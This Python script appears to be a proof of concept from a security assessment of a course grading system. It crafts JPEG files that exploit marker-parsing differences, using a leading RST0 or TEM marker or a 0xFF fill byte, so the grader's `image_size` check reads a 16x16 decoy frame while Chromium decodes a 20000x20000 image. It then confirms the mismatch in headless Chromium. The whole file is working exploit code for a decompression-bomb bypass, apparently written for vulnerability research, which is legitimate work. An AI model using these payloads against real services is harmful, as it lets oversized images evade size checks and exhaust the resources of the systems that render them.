"""a06: a02's cause, more forms (offline: the course's `image_size` against chromium's decoder on the same bytes).
(1) RST0 before the frame (a02); (2) TEM (FF 01), also a marker without a length for libjpeg; (3) fill bytes: `FF FF C0`
is SOF0 after a fill byte for libjpeg, a marker 0xFF of length 0xC0xx for the course."""
import sys, base64, io, struct, time
sys.path.insert(0, (__import__("os").environ.get("ATTACK_USER_CLONE") or __import__("os").path.abspath(__import__("os").path.join(__import__("os").path.dirname(__import__("os").path.abspath(__file__)), "..", "..", "..", "..")))); sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from grader.feedback import image_size
from jpegbomb import tiny_jpeg
W = H = 20000
def patched():
    j = bytearray(tiny_jpeg()); at = 2
    while True:
        m, ln = j[at+1], struct.unpack(">H", j[at+2:at+4])[0]
        if m == 0xC0: j[at+5:at+9] = struct.pack(">HH", H, W); return bytes(j), at
        at += 2 + ln
SMALL = b"\xff\xc0\x00\x0b\x08\x00\x10\x00\x10\x01\x01\x11\x00"
def land(out, jump):
    assert len(out) <= jump; return out + b"\x00" * (jump - len(out)) + SMALL
def paramless(marker):
    j, _ = patched(); out = b"\xff\xd8\xff" + bytes([marker]) + j[2:]
    return land(out, 4 + struct.unpack(">H", out[4:6])[0])
def fill():
    j, sof = patched()
    out = j[:sof] + b"\xff" + j[sof:]          # ... FF FF C0 00 11 ...: libjpeg skips the fill byte
    jump = sof + 2 + struct.unpack(">H", out[sof+2:sof+4])[0]   # the course: marker FF, length C0 00
    return land(out, jump)
cases = {"rst0": paramless(0xD0), "tem": paramless(0x01), "fill": fill()}
from playwright.sync_api import sync_playwright
html = "<html><body>" + "".join(f'<img id="{k}" src="data:image/jpeg;base64,{base64.b64encode(v).decode()}">' for k, v in cases.items()) + "</body></html>"
open("/tmp/attack41-user-a06.html", "w").write(html)
with sync_playwright() as pw:
    b = pw.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox"])
    pg = b.new_page(); pg.goto("file:///tmp/attack41-user-a06.html")
    seen = dict((i, (w, h)) for i, w, h in pg.evaluate("Array.from(document.images).map(i => [i.id, i.naturalWidth, i.naturalHeight])"))
    b.close()
for k, v in cases.items():
    print(f"{k}: {len(v)} bytes; course image_size {image_size('image/jpeg', base64.b64encode(v).decode())}; chromium {seen[k]}")
import os; os.unlink("/tmp/attack41-user-a06.html")
